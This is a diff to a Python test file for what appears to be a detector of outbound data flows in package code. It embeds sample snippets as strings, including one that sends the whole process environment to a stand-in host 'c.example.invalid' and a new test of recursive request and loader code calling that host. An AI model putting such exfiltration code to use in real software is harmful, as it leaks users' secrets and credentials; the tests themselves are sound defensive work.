@@ -192,3 +192,21 @@ def test_what_only_holds_an_address_sends_nothing(text: str) -> None:
 def test_a_name_made_of_loot_is_told_to_whoever_is_asked_for_it() -> None:
     text = "import clock\nclock.Client().ask(repr(dict(os.environ)) + '.c.example.invalid')"
     assert [one.target for one in stolen(text)] == [HOST]
+
+
+def test_what_makes_requests_of_requests_comes_to_an_end() -> None:
+    text = (
+        "import requests, importlib.abc, importlib.util, urllib.request as u\n"
+        "class A(requests.auth.AuthBase):\n    def __call__(self, r):\n"
+        "        requests.get('https://c.example.invalid/a', auth=self)\n"
+        "        requests.get('https://c.example.invalid/b', auth=A())\n        return r\n"
+        "class H(u.BaseHandler):\n    def http_request(self, r):\n"
+        "        u.build_opener(H, H, H).open('https://c.example.invalid/c')\n        return r\n"
+        "class L(importlib.abc.InspectLoader):\n    def get_source(self, name):\n"
+        "        importlib.util.spec_from_loader('a', self)\n"
+        "importlib.util.spec_from_loader('a', L())\n"
+        "requests.get('https://c.example.invalid/d', auth=A())\n"
+        "u.build_opener(H).open('https://c.example.invalid/e')\n"
+    )
+    found = {one.target[-1] for one in flows(text, Act.SEND, "wheel")}
+    assert found == set("abcde")
